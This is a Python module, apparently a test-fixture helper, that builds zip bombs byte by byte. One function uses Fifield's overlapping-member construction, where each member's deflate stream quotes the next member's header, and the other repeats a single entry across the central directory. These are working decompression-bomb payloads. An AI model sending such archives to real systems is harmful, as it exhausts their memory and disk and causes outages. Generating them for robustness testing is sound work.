"""Zip archives no zip writer makes, built byte by byte: members that overlap one another.

`overlapping_zip` is David Fifield's "better zip bomb" construction (usenix WOOT 2019): member
i's deflate stream starts with a stored (uncompressed) block that quotes member i+1's local
header, then runs on into member i+1's own data, down to one shared compressed kernel. Every
member is a valid deflate stream; each unpacks the kernel again. `repeated_entry_zip` is the
plainer form: one member, listed many times in the central directory.
"""

from __future__ import annotations

import struct
import zipfile
import zlib

_LOCAL = struct.Struct("<IHHHHHIIIHH")
_CENTRAL = struct.Struct("<IHHHHHHIIIHHHHHII")
_END = struct.Struct("<IHHHHIIH")


def _local_header(name: bytes, crc: int, compressed: int, size: int) -> bytes:
    return _LOCAL.pack(0x04034B50, 20, 0, zipfile.ZIP_DEFLATED, 0, 0, crc, compressed, size, len(name), 0) + name


def _central_entry(name: bytes, crc: int, compressed: int, size: int, offset: int) -> bytes:
    return _CENTRAL.pack(
        0x02014B50, 20, 20, 0, zipfile.ZIP_DEFLATED, 0, 0, crc, compressed, size, len(name), 0, 0, 0, 0, 0, offset
    ) + name


def _end_record(entries: int, central: int, central_offset: int) -> bytes:
    return _END.pack(0x06054B50, 0, 0, entries, entries, central, central_offset, 0)


def overlapping_zip(
    members: int, kernel: bytes = b"<p>" + "新闻".encode() * 30_000 + b"</p>", with_crc: bool = False
) -> bytes:
    """A zip of `members` members whose data overlap, each unpacking to every later member's local
    header followed by `kernel`. CRCs are 0 unless `with_crc` (computing them unpacks every member:
    the bomb's cost, paid once here)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(kernel) + compressor.flush()
    size = len(kernel)
    unpacked = kernel
    names = [f"news/{i:05d}.html".encode() for i in range(members)]
    headers: list[bytes] = [b""] * members
    spans: list[tuple[int, int]] = [(0, 0)] * members
    crcs = [0] * members
    for i in range(members - 1, -1, -1):
        if i < members - 1:
            quoted = headers[i + 1]
            # A stored, non-final deflate block: BFINAL=0, BTYPE=00, then LEN and its complement.
            data = b"\x00" + struct.pack("<HH", len(quoted), 0xFFFF ^ len(quoted)) + quoted + data
            size += len(quoted)
            if with_crc:
                unpacked = quoted + unpacked
        spans[i] = (len(data), size)
        crcs[i] = zlib.crc32(unpacked) if with_crc else 0
        headers[i] = _local_header(names[i], crcs[i], *spans[i])
    body = headers[0] + data
    central, offset = [], 0
    for i in range(members):
        central.append(_central_entry(names[i], crcs[i], *spans[i], offset))
        offset += len(headers[i]) + 5  # the next local header follows this one's stored-block header
    directory = b"".join(central)
    return body + directory + _end_record(members, len(directory), len(body))


def repeated_entry_zip(entries: int, content: bytes = "新闻正文。".encode() * 20_000) -> bytes:
    """One deflated member, named `entries` times over by the central directory."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(content) + compressor.flush()
    name = b"news/page.html"
    crc = zlib.crc32(content)
    body = _local_header(name, crc, len(data), len(content)) + data
    directory = _central_entry(name, crc, len(data), len(content), 0) * entries
    return body + directory + _end_record(entries, len(directory), len(body))
